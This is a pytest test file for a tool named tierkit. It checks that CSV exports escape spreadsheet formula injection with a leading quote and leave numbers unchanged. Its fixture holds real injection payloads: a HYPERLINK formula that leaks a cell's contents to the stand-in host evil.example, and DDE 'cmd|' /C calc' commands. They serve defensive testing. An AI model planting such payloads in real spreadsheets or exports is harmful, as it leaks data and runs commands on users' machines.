"""CSV formula injection: every CSV tierkit writes shows text that starts like a formula
as text (a leading ``'``, as OWASP advises); numbers stay numbers; ``--csv-raw`` opts out.

Each payload is a customer name as it would arrive in an export; the files are read
back with the csv module, as a spreadsheet would split them.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tierkit.io.outputs import spreadsheet_cell, unquote_cell

from .conftest import run_in_process, run_tierkit as tierkit

AS_OF = "2026-09-01"
PAYLOADS = {
    "C1": '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "C2": "+cmd|' /C calc'!A0",
    "C3": "@SUM(1+1)*cmd|' /C calc'!A0",
    "C4": "-2+3+cmd|' /C calc'!A0",
    "C5": "\t=1+1",  # (text fields are read stripped: these arrive as =1+1)
    "C6": "\r=1+1",
    "C7": "'=already quoted",
    "C8": "Acme Ltd",
}
RULESET = """\
tierkit: 1
name: injection
version: "1"
locale: en
fields:
  id: {type: string, required: true}
  name: {type: string}
  owner: {type: string}
  balance: {type: number}
  last_contact_date: {type: date}
schemes:
  - id: tier
    kind: rules
    label: Tier
    rules:
      - {id: owing, when: "balance < 0", label: Owing}
    default: {id: fine, label: Fine}
rank:
  - {by: balance, order: desc}
allocation:
  default: {id: everyone, set: {cadence_days: 30}}
"""


READ = {customer: name.strip() for customer, name in PAYLOADS.items()}



@pytest.fixture
def injected(tmp_path) -> Path:
    """A ruleset and a customer file whose names are formula payloads; C4's balance is negative."""
    (tmp_path / "r.yaml").write_text(RULESET, encoding="utf-8")
    with open(tmp_path / "customers.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["id", "name", "owner", "balance", "last_contact_date"])
        for number, (customer, name) in enumerate(PAYLOADS.items()):
            writer.writerow([customer, name, "=owner()", -5.5 if customer == "C4" else number, "2026-08-01"])
    return tmp_path


def csv_rows(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def formula_like(text: str) -> bool:
    return text[:1] in ("=", "+", "-", "@", "\t", "\r")


def test_evaluate_csv_quotes_every_formula_and_keeps_numbers(injected):
    done = tierkit("evaluate", "r.yaml", "customers.csv", "--as-of", AS_OF, "-o", "out.csv", cwd=injected)
    assert done.returncode == 0, done.stderr
    rows = {row["id"]: row for row in csv_rows(injected / "out.csv")}
    for customer, name in READ.items():
        shown = rows[customer]["features.name"]
        assert shown == (name if customer == "C8" else "'" + name), customer
    for row in rows.values():
        assert not any(formula_like(cell) and not cell.lstrip("-").replace(".", "").isdigit() for cell in row.values()), row
    assert rows["C4"]["features.balance"] == "-5.5"  # a negative number is a number
    assert rows["C4"]["features.owner"] == "'=owner()"


def test_results_read_back_give_the_names_as_they_were(injected):
    assert run_in_process("evaluate", "r.yaml", "customers.csv", "--as-of", AS_OF, "-o", "out.csv", cwd=injected).returncode == 0
    done = tierkit("explain", "r.yaml", "customers.csv", "--as-of", AS_OF, "--customer", "C1", "--json", cwd=injected)
    assert json.loads(done.stdout)["features"]["name"] == READ["C1"]  # JSON is not touched
    from tierkit.engine.evaluation import compile_ruleset
    from tierkit.manager import make_registry
    from tierkit.engine.results import read_results
    from tierkit.ruleset.load import load_ruleset

    registry = make_registry()
    plan = compile_ruleset(load_ruleset(str(injected / "r.yaml"), registry.ruleset_dirs), registry)
    _meta, records = read_results(injected / "out.csv", plan)
    assert {record["id"]: record["features"]["name"] for record in records} == READ


def test_rejected_csv_quotes_formulas(injected):
    with open(injected / "customers.csv", "a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow(["C9", "x", "y", "=1+1", "2026-08-01"])
    done = run_in_process("evaluate", "r.yaml", "customers.csv", "--as-of", AS_OF, "-o", "out.jsonl", "--rejected", "bad.csv",
                          cwd=injected)
    assert done.returncode == 0, done.stderr
    [rejected] = csv_rows(injected / "bad.csv")
    assert rejected["row"] == "10" and rejected["column"] == "balance"
    # the reason quotes the cell ('=1+1'): a quote before = is quoted too, so quoting can be undone exactly
    assert rejected["reason"] == "''=1+1' is not a number"
    assert unquote_cell(rejected["reason"]) == "'=1+1' is not a number"


def test_calllist_csv_quotes_formulas(injected):
    done = run_in_process("calllist", "r.yaml", "customers.csv", "--as-of", AS_OF, "--owner", "=owner()", "-o", "calls.csv",
                          cwd=injected)
    assert done.returncode == 0, done.stderr
    with open(injected / "calls.csv", encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + PAYLOADS["C2"] in cells and "'" + PAYLOADS["C1"] in cells
    assert not any(formula_like(cell) and not cell.lstrip("-").replace(".", "").isdigit() for cell in cells)


@pytest.mark.parametrize("where", ["before", "after"])
def test_csv_raw_writes_cells_as_they_are(injected, where):
    options = ["--csv-raw", "evaluate"] if where == "before" else ["evaluate", "--csv-raw"]
    done = tierkit(*options, "r.yaml", "customers.csv", "--as-of", AS_OF, "-o", "raw.csv", cwd=injected)
    assert done.returncode == 0, done.stderr
    rows = {row["id"]: row["features.name"] for row in csv_rows(injected / "raw.csv")}
    assert rows == READ


@pytest.mark.parametrize("text", [*PAYLOADS.values(), "'", "''+x", "-", "+", "=", "-1e5", "+3", "@", "'@x"])
def test_quoting_is_undone_exactly(text):
    assert unquote_cell(spreadsheet_cell(text)) == text
    shown = spreadsheet_cell(text)
    assert not formula_like(shown) or shown in ("-1e5", "+3")


@pytest.mark.parametrize("number", [-5, -5.5, 0.0, float("-inf")])
def test_numbers_are_not_quoted(number):
    assert spreadsheet_cell(number) == number
